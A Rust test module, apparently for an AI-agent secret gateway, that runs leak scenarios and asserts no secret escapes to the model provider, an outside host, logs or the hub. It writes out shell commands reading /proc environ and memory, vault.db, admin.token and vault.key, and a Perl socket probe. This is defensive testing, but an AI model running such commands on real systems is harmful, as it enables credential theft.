//! Scenes of the day that are more than one request. Each answers how many bytes it searched or made leave.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};
use wardkeep_tests::simulators::llm::Fault;
use wardkeep_tests::story::capture::{Capture, Channel};
use wardkeep_tests::story::disguise;
use wardkeep_tests::story::hooks::Hooks;
use wardkeep_tests::story::people::wait;
use wardkeep_tests::story::stage::{AGENT, SESSION};

use super::went;
use crate::force;
use crate::p01_no_secret_leaves::model::{pieces, user};
use crate::p01_no_secret_leaves::siege::{HARMLESS, Siege, heard};
use crate::p01_no_secret_leaves::tools::tap;

const BOUND: &str = "Bearer SECRET_REF(newsletter_api_key)";

fn everything(siege: &Siege) -> String {
    siege.secrets().iter().map(|(_, value)| format!("{value}\n")).collect()
}

fn value(siege: &Siege, name: &str) -> String {
    siege.secrets().into_iter().find(|(other, _)| *other == name).expect("kept").1
}

/// A request to the model with something harmless and something that is not: how much of it left.
async fn ask(siege: &mut Siege, attack: &str, body: Value) -> usize {
    siege.hooks.ask_llm("/v1/messages", &[], body.to_string().into_bytes()).await.expect("the gateway answers");
    let news = siege.listen(attack);
    assert!(heard(&news, HARMLESS).contains(&Channel::Provider), "{attack}: nothing got through");
    went(&news, Channel::Provider)
}

pub(super) async fn deltas(siege: &mut Siege, id: String) -> usize {
    let form = disguise::BEYOND.iter().find(|form| form.name == "server-sent events").expect("a form");
    let said = (form.apply)(&value(siege, "shown_token"));
    ask(siege, &id, user(json!(format!("{HARMLESS}\n{said}")))).await
}

pub(super) async fn thirds(siege: &mut Siege, id: String) -> usize {
    let parts = pieces(&value(siege, "shown_token"), 3);
    let mut body = user(json!(""));
    body["messages"] = json!([
        {"role": "user", "content": HARMLESS},
        {"role": "user", "content": parts[0]},
        {"role": "user", "content": parts[1]},
        {"role": "user", "content": parts[2]},
    ]);
    ask(siege, &id, body).await
}

/// What the agent heard of one call; the harmless text must be part of it.
fn came_back(siege: &mut Siege, attack: &str) -> usize {
    let news = siege.listen(attack);
    assert!(heard(&news, HARMLESS).contains(&Channel::Agent), "{attack}: nothing came back");
    went(&news, Channel::Agent)
}

pub(super) async fn file(siege: &mut Siege, id: String) -> usize {
    fs::write(siege.stage.tenant.workspace().join(&id), format!("{HARMLESS}\n{}", everything(siege))).expect("written");
    siege.hooks.run(&id, "read_file", json!({ "path": id })).await.expect("it is read");
    came_back(siege, &id)
}

pub(super) async fn report(siege: &mut Siege, id: String) -> usize {
    let (_, answer) = siege.hooks.propose(&id, "crm_note", json!({"topic": "opening hours"})).await.expect("an answer");
    assert_eq!(answer["decision"], "allow", "{answer}");
    let output = format!("{HARMLESS}\n{}", everything(siege));
    let body = json!({"session": SESSION, "call": id, "output": output, "is_error": true});
    siege.hooks.post("/v1/hooks/after-tool-call", &body).await.expect("an answer");
    came_back(siege, &id)
}

/// One request to a service, with its key.
async fn request(siege: &mut Siege, id: &str, url: &str) -> Vec<Capture> {
    let args = json!({"method": "GET", "url": url, "headers": {"authorization": BOUND}});
    force(&siege.stage, &siege.hooks, id, "http_request", args).await;
    siege.listen(id)
}

pub(super) async fn echo(siege: &mut Siege, id: String) -> usize {
    let url = format!("{}/v1/echo", siege.stage.tenant.services.newsletter_url());
    let news = request(siege, &id, &url).await;
    assert!(heard(&news, "SECRET_REF(newsletter_api_key)").contains(&Channel::Agent), "the key was not shown");
    went(&news, Channel::Service)
}

pub(super) async fn redirect(siege: &mut Siege, id: String) -> usize {
    let (service, to) = (siege.stage.tenant.services.newsletter_url(), tap(siege, "elsewhere"));
    let news = request(siege, &id, &format!("{service}/v1/moved?to=http://{to}/{id}")).await;
    assert_eq!(went(&news, Channel::Elsewhere), 0, "it was followed");
    went(&news, Channel::Service)
}

pub(super) async fn other_host(siege: &mut Siege, id: String) -> usize {
    let to = tap(siege, "elsewhere");
    let news = request(siege, &id, &format!("http://{to}/v1/echo")).await;
    assert_eq!(went(&news, Channel::Elsewhere), 0, "a reference went where it is not bound");
    // The way is open to whoever brings no reference.
    let args = json!({"method": "GET", "url": format!("http://{to}/{id}")});
    force(&siege.stage, &siege.hooks, &format!("{id}-open"), "http_request", args).await;
    went(&siege.listen(&id), Channel::Elsewhere)
}

pub(super) async fn provider_error(siege: &mut Siege, id: String) -> usize {
    siege.stage.llm.fail_next(Fault::Echo(401));
    let body = user(json!("hello")).to_string().into_bytes();
    siege.hooks.ask_llm("/v1/messages", &[], body).await.expect("the gateway answers");
    let news = siege.listen(&id);
    assert!(heard(&news, "SECRET_REF(llm_api_key)").contains(&Channel::Agent), "the key was not shown");
    went(&news, Channel::Agent)
}

pub(super) async fn broken_stream(siege: &mut Siege, id: String) -> usize {
    siege.stage.llm.fail_next(Fault::Malformed(2));
    let mut body = user(json!(everything(siege)));
    body["stream"] = json!(true);
    siege.hooks.ask_llm("/v1/messages", &[], body.to_string().into_bytes()).await.expect("the gateway answers");
    went(&siege.listen(&id), Channel::Agent)
}

/// Runs a command, approved where it must be; what it said.
async fn run(siege: &mut Siege, id: &str, args: Value) -> String {
    let result = force(&siege.stage, &siege.hooks, id, "shell", args).await;
    siege.listen(id);
    result.as_ref().and_then(|result| result["output"].as_str()).unwrap_or_default().to_owned()
}

pub(super) async fn environment(siege: &mut Siege, id: String) -> usize {
    let args = json!({"command": "printenv TOKEN", "env": {"TOKEN": "SECRET_REF(shown_token)"}});
    let said = run(siege, &id, args).await;
    assert_eq!(said, "SECRET_REF(shown_token)\n");
    said.len()
}

pub(super) async fn processes(siege: &mut Siege, id: String) -> usize {
    let said = run(siege, &id, json!({"command": "cat /proc/[0-9]*/environ; cat /proc/self/environ; echo"})).await;
    assert!(said.contains("PATH=") && !said.contains("SECRET_REF"), "{said}");
    said.len()
}

pub(super) async fn daemon_files(siege: &mut Siege, id: String) -> usize {
    let (pid, state) = (siege.stage.tenant.service.pid(), siege.stage.tenant.state());
    let state = state.display();
    let command = format!(
        "head -c 9 /proc/{pid}/mem; head -c 9 /proc/{pid}/environ; head -c 9 /proc/{pid}/fd/3; head -c 9 {state}/vault.db; \
         head -c 9 {state}/admin.token; head -c 9 {state}/../vault.key; echo; echo {HARMLESS}"
    );
    let said = run(siege, &id, json!({ "command": command })).await;
    let opened: Vec<&str> = said.lines().filter(|line| !line.starts_with("head: ") && !line.is_empty()).collect();
    assert_eq!(opened, [HARMLESS], "{said}");
    said.len()
}

pub(super) async fn admin_socket(siege: &mut Siege, id: String) -> usize {
    let socket = siege.stage.setting.folder.join("tenant/run/admin.sock");
    assert!(socket.exists(), "there is nothing to knock at");
    let script = format!(
        "socket(my $s, 1, 1, 0) or die qq(no socket\\n); connect($s, pack('S a*', 1, '{}')) or die qq(no way\\n); print qq(IN\\n)",
        socket.display()
    );
    let said = run(siege, &id, json!({"argv": ["perl", "-e", script]})).await;
    assert!(said.contains("no socket") || said.contains("no way"), "{said}");
    said.len()
}

async fn other(siege: &Siege) -> Hooks {
    let other = Hooks::with_token(&siege.stage.tenant, &siege.stage.tenant.other_token).expect("a client");
    other.start_session().await.expect("a session");
    other
}

pub(super) async fn other_permit(siege: &mut Siege, id: String) -> usize {
    let other = other(siege).await;
    let (_, mine) = siege.hooks.propose(&id, "read_file", json!({"path": "treasure/pem"})).await.expect("an answer");
    let (status, _) = other.exec(mine["permit"].as_str().expect("allowed")).await.expect("an answer");
    assert_eq!(status, 404, "another agent's permit");
    let (status, _) = other.status(&id, 0).await.expect("an answer");
    assert_eq!(status, 404, "another agent's call");
    siege.hear(&other)
}

pub(super) async fn other_agent(siege: &mut Siege, id: String) -> usize {
    let other = other(siege).await;
    fs::write(siege.stage.tenant.workspace().join(&id), format!("{HARMLESS}\n{}", everything(siege))).expect("written");
    let read = other.run(&id, "read_file", json!({ "path": id })).await.expect("it reads");
    assert!(read["output"].as_str().is_some_and(|text| text.contains(HARMLESS)), "{read}");
    siege.hear(&other)
}

pub(super) async fn note(siege: &mut Siege, id: String) -> usize {
    let (_, answer) = siege.hooks.propose(&id, "shell", json!({"command": "rm -rf gone"})).await.expect("an answer");
    let digest = answer["digest"].as_str().expect("it waits").to_owned();
    let note = format!("{HARMLESS} {}", value(siege, "shown_token"));
    siege.stage.tenant.cli(&["approvals", "deny", &digest, "--note", &note]).await.expect("denied");
    let (_, answer) = siege.hooks.status(&id, 5_000).await.expect("an answer");
    assert_eq!(answer["decision"], "deny", "{answer}");
    came_back(siege, &id)
}

pub(super) async fn log(siege: &mut Siege, id: String) -> usize {
    let said = fs::read(siege.stage.log()).expect("read");
    siege.look(&id, "the log", &said)
}

/// What commands of the operator print.
async fn printed(siege: &mut Siege, id: &str, commands: &[&[&str]]) -> usize {
    let mut all = 0;
    for command in commands {
        let said = siege.stage.tenant.cli(command).await.unwrap_or_else(|error| error.to_string());
        all += siege.look(id, &command.join(" "), said.as_bytes());
    }
    all
}

pub(super) async fn audit(siege: &mut Siege, id: String) -> usize {
    printed(siege, &id, &[&["audit", "show", "--json"], &["audit", "verify"]]).await
}

pub(super) async fn commands(siege: &mut Siege, id: String) -> usize {
    let commands: [&[&str]; 6] = [
        &["status", "--json"],
        &["vault", "list", "--json"],
        &["vault", "history", "shown_token"],
        &["doctor"],
        &["approvals", "list", "--all"],
        &["policy", "show"],
    ];
    printed(siege, &id, &commands).await
}

/// What the hub shows to people, once it knows the agent.
async fn shown(siege: &mut Siege, id: &str, path: &str) -> usize {
    let said = wait(path, || async {
        let said = siege.stage.person.get(path).await?.to_string();
        Ok(said.contains(AGENT).then_some(said))
    })
    .await
    .expect("the hub shows it");
    siege.look(id, path, said.as_bytes())
}

pub(super) async fn approvals(siege: &mut Siege, id: String) -> usize {
    shown(siege, &id, "/approvals").await
}

pub(super) async fn activity(siege: &mut Siege, id: String) -> usize {
    shown(siege, &id, "/activity?limit=500").await
}

pub(super) async fn usage(siege: &mut Siege, id: String) -> usize {
    shown(siege, &id, "/usage").await
}

/// A process of its own says whether a signal arrived.
fn signal(siege: &Siege, name: &str) {
    let pid = siege.stage.tenant.service.pid().to_string();
    assert!(Command::new("kill").args([name, &pid]).status().expect("kill").success());
}

async fn back_again(siege: &Siege, kills: u32) {
    wait("the daemon to be back", || async {
        let back = siege.stage.tenant.service.kills() > kills;
        Ok(if back { siege.hooks.start_session().await.ok().filter(|(s, _)| s.is_success()) } else { None })
    })
    .await
    .expect("it is back");
}

pub(super) async fn killed_run(siege: &mut Siege, id: String) -> usize {
    let workspace = siege.stage.tenant.workspace();
    fs::write(workspace.join("all"), format!("{HARMLESS}\n{}", everything(siege))).expect("written");
    let command = format!("cat all; touch {id}; sleep 0.2; cat all");
    let (_, answer) = siege.hooks.propose(&id, "shell", json!({ "command": command })).await.expect("an answer");
    let permit = answer["permit"].as_str().expect("allowed").to_owned();
    let (begun, kills) = (workspace.join(&id), siege.stage.tenant.service.kills());
    let kill = async {
        wait("the run to begin", || async { Ok(begun.exists().then_some(())) }).await.expect("it begins");
        siege.stage.tenant.service.kill().expect("killed");
    };
    // The connection breaks with the daemon.
    let (_, ()) = tokio::join!(siege.hooks.exec(&permit), kill);
    back_again(siege, kills).await;
    wait("the result", || async {
        let Ok((_, answer)) = siege.hooks.status(&id, 500).await else { return Ok(None) };
        Ok((answer["decision"] == "done").then_some(()))
    })
    .await
    .expect("it ends");
    came_back(siege, &id)
}

pub(super) async fn killed_request(siege: &mut Siege, id: String) -> usize {
    let kills = siege.stage.tenant.service.kills();
    siege.kill_within_a_stream(&format!("{HARMLESS} {}", everything(siege))).await;
    back_again(siege, kills).await;
    went(&siege.listen(&id), Channel::Provider)
}

/// SIGABRT is how a crash ends; the kernel would write a core of a process that allows it.
pub(super) async fn core(siege: &mut Siege, id: String) -> usize {
    let pid = siege.stage.tenant.service.pid();
    let limits = fs::read_to_string(format!("/proc/{pid}/limits")).expect("read");
    let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap_or_default();
    assert_eq!(core.split_whitespace().nth(4), Some("0"), "the daemon may leave a core: {limits}");
    let kills = siege.stage.tenant.service.kills();
    let started_in = fs::read_link(format!("/proc/{pid}/cwd")).expect("read");
    signal(siege, "-ABRT");
    back_again(siege, kills).await;
    for folder in [siege.stage.setting.folder.clone(), siege.stage.tenant.state(), started_in] {
        let cores: Vec<_> = fs::read_dir(folder)
            .expect("listed")
            .flatten()
            .map(|entry| entry.file_name())
            .filter(|name| name == "core" || name.to_string_lossy() == format!("core.{pid}"))
            .collect();
        assert!(cores.is_empty(), "{cores:?}");
    }
    siege.look(&id, "limits of the daemon", limits.as_bytes())
}

/// They are searched in the end, when no more comes: everything below the stage's folder but the workspace, with the state of
/// the daemon and all that the hub keeps. Here only that there is something.
pub(super) async fn files(siege: &mut Siege, _: String) -> usize {
    let (state, hub) = (siege.stage.tenant.state(), siege.stage.setting.folder.join("hub"));
    let kept = [state.join("gate/gate.db"), state.join("vault.db"), hub.join("hub.db")];
    kept.iter().map(|file| usize::try_from(fs::metadata(file).expect("kept").len()).expect("small")).sum()
}
